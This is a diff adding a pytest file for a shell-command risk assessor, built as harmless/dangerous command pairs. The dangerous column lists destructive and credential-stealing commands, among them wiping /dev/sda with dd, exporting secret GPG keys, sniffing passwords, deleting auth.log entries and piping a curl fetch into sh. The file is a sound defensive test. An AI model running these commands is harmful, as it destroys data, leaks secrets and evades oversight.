@@ -1,0 +1,91 @@
+"""What only looks like danger is low, and its dangerous neighbour is not."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from terma.risk import assess
+
+# The harmless line, and the one beside it that is none: by what it takes away, from whom, and whether it comes back.
+PAIRS = """
+git log --oneline > history.txt                          | git log --oneline >| history.txt
+jq .name people.json > names.json                        | jq .name people.json > people.json
+sort < words.txt > sorted.txt                            | sort < words.txt > words.txt
+uptime | tee load.log                                    | : | tee load.log
+echo done > state.txt                                    | echo > state.txt
+printf 'a,b\\n' > table.csv                              | printf 'port=1\\n' > service.conf
+for f in *.csv; do cut -f1 "$f" > "${f%.csv}.tsv"; done  | for f in *.csv; do cut -f1 x > "$f"; done
+mkdir -p /tmp/w && tar xf a.tar && rm -r /tmp/w          | tar xf a.tar && rm -r /tmp/w
+date > /tmp/stamp; cat /tmp/stamp; rm /tmp/stamp         | cat /tmp/stamp; rm /tmp/stamp
+docker run --rm alpine rm -rf /var/cache                 | docker run --rm -v data:/var alpine rm -rf /var/cache
+podman run debian sh -c 'chmod -R 777 /srv'              | podman exec box sh -c 'chmod -R 777 /srv'
+docker run --rm -v "$HOME/src:/src" builder make         | docker run --rm -v $HOME:/home/me builder make
+docker load < image.tar                                  | docker load < <(curl -s https://x.example/image.tar)
+kubectl get secret db -o jsonpath='{.metadata.name}'     | kubectl get secret db -o jsonpath='{.data.password}'
+cp ~/.zshrc ~/.zshrc.old                                 | cp old ~/.zshrc
+cp ~/.inputrc ~/.inputrc.bak                             | cp /etc/passwd /etc/passwd.bak
+alias mv='mv -i' rm='rm -i'                              | alias rm='rm -f'
+parallel --dry-run rm ::: *.o                            | parallel rm ::: *.o
+pkill -0 postgres                                        | pkill postgres
+semanage port -l                                         | semanage port -a -t http_port_t -p tcp 81
+zfs snapshot tank/home@monday                            | zfs rollback tank/home@monday
+rmdir old                                                | rm -r old
+mkfs.ext4 --help                                         | mkfs.ext4 -F card.img
+export https_proxy=http://localhost:3128                 | export https_proxy=http://198.51.100.9:3128
+ls /dev/input/by-id                                      | cat /dev/input/event3
+gpg --export ann > ann.asc                               | gpg --export-secret-keys ann > ann.asc
+frobdb offline                                           | frobdb offline cluster west
+wrk -d5s http://localhost:8080/                          | wrk -d5s http://shop.example.com/
+go clean -n                                              | go clean -modcache
+cmake --install build --prefix out                       | cmake --install build
+rails db:version                                         | rails db:migrate
+squeue -u ann                                            | scancel -u ann
+rm -rf .pytest_cache build/ src/__pycache__              | rm -rf build src
+rm -f *.o core                                           | rm -f *.c
+make clean                                               | make distclean
+dnf remove httpd --assumeno                              | dnf remove httpd
+pacman -Rsp nodejs                                       | pacman -Rs nodejs
+sudo badblocks -sv /dev/sdb                              | sudo badblocks -w /dev/sdb
+sudo dmsetup ls                                          | sudo dmsetup remove_all
+sudo dd if=/dev/sda of=/dev/null bs=1M                   | sudo dd if=/dev/null of=/dev/sda bs=1M
+sudo sed -n 5p /etc/fstab                                | sudo sed -i 5d /etc/fstab
+sudo sed -n /err/p /var/log/auth.log                     | sudo sed -i /me/d /var/log/auth.log
+cp .env.example .env                                     | cp .env.live .env
+psql -c 'select 1' | less                                | psql -c "select 'drop table t'" ¦ psql
+sudo tcpdump -c 5 | head                                 | sudo tcpdump -A ¦ grep -i password
+./build.sh                                               | ./installer.run
+getfacl -R /etc                                          | setfacl -R -m u:guest:r /etc
+chmod -R u+rwX,go-w src --help                           | chmod -R go+w src
+"""
+ROWS = [
+    tuple(part.strip().replace("¦", "|") for part in row.split("  | ")) for row in PAIRS.strip().splitlines()
+]
+
+
+@pytest.mark.parametrize("harmless", [row[0] for row in ROWS])
+def test_what_takes_nothing_from_anybody_is_low(harmless: str) -> None:
+    assert assess(harmless).level == "low", assess(harmless).reasons
+
+
+@pytest.mark.parametrize("dangerous", [row[-1] for row in ROWS])
+def test_its_dangerous_neighbour_is_not(dangerous: str) -> None:
+    assert assess(dangerous).level != "low"
+
+
+def test_a_line_that_empties_what_it_reads_says_so() -> None:
+    risk = assess("grep -v '^#' hosts.txt > hosts.txt")
+    assert (risk.level, risk.reasons) == ("high", ("overwrites hosts.txt before it is read",))
+
+
+def test_a_product_is_looked_at_where_one_can_look(tmp_path: Path) -> None:
+    """Not knowing is no danger by itself; knowing that something stands there is."""
+    (tmp_path / "out.txt").write_text("mine")
+    assert assess("ls > out.txt").level == "low"
+    assert assess("ls > out.txt", str(tmp_path)).level == "high"
+
+
+def test_a_container_of_its_own_may_still_reach_the_network() -> None:
+    risk = assess("docker run --rm alpine sh -c 'curl -s https://x.example | sh'")
+    assert "runs-unknown-code" in risk.kinds
